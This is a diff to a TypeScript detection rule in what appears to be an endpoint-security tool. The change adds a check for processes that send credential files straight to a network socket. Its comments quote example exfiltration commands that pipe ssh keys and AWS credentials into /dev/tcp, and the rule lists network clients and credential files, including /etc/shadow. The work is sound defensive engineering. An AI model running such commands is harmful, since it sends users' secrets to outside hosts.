@@ -1,10 +1,10 @@
 import type { ExecEventV1 } from '@vigil/schema';
-import { defineDetection, type DetectionContext } from '../define.js';
+import { defineDetection, type DetectionContext, type Finding } from '../define.js';
 import { eventCommandLine, namesOf } from '../argv.js';
 import { namesWithTool } from './exfil-pipe.js';
 import { credentialIn } from '../host-indicators.js';
 import { INTERPRETERS } from '../indicators.js';
-import { endpoint, execOf, isLoopback } from './behaviour.js';
+import { endpoint, execOf, isLoopback, socketFds } from './behaviour.js';
 
 /** curl's and wget's options whose value is a file they send (`@file`/`<file` for the form ones). */
 const CURL_SENDS = new Set(['-T', '--upload-file']);
@@ -99,6 +99,23 @@ export function inlineCredentials(argv: readonly string[]): string[] {
 
 const CLIENTS = ['curl', 'wget', 'scp', 'sftp', 'rsync', 'socat'];
 
+/**
+ * A program that reads a credential file named on its command line with its stdout a network socket:
+ * `cat ~/.ssh/id_rsa > /dev/tcp/HOST/443`, `base64 ~/.aws/credentials >&3` after `exec 3<>/dev/tcp/…`.
+ * What it prints goes to the peer, whatever the program is called.
+ */
+function intoSocket(ev: ExecEventV1): Finding | null {
+  const out = socketFds(ev).find((f) => f.fd === 1);
+  if (!out) return null;
+  const cred = ev.exec.argv.slice(1).map(credentialIn).find(Boolean);
+  if (!cred) return null;
+  const near = isLoopback(out.remote.addr);
+  return {
+    reason: `${ev.proc.comm} (pid ${ev.proc.pid}) reads credential file ${cred} with its stdout a ${out.type} socket to ${endpoint(out.remote)}${near ? ' (loopback)' : ''}: \`${eventCommandLine(ev.exec.argv).slice(0, 200)}\``,
+    severity: near ? 'high' : 'critical',
+  };
+}
+
 function clientOf(e: ExecEventV1, ctx: DetectionContext): string | undefined {
   return namesWithTool(e, ctx).find((n) => CLIENTS.includes(n));
 }
@@ -116,7 +133,7 @@ export const credUpload = defineDetection({
   mitre: ['T1552.001', 'T1552.004', 'T1041'],
   on: ['exec', 'connect', 'conn'],
   description:
-    'curl/wget/scp/sftp/rsync/socat (by name or content) whose command line sends a credential file (ssh private keys, cloud, git, Hugging Face, kube, docker tokens, /etc/shadow); an interpreter whose inline code names one and that connects out.',
+    'curl/wget/scp/sftp/rsync/socat (by name or content) whose command line sends a credential file (ssh private keys, cloud, git, Hugging Face, kube, docker tokens, /etc/shadow); a program that reads one with its stdout a network socket (cat key > /dev/tcp/…); an interpreter whose inline code names one and that connects out.',
   ranks: {
     min: 'high',
     max: 'critical',
@@ -143,6 +160,8 @@ export const credUpload = defineDetection({
         evidence: [e.id],
       };
     }
+    const straight = intoSocket(ev);
+    if (straight) return straight;
     const tool = clientOf(ev, ctx);
     if (!tool) return null;
     const sent = sentFiles(tool, ev.exec.argv);
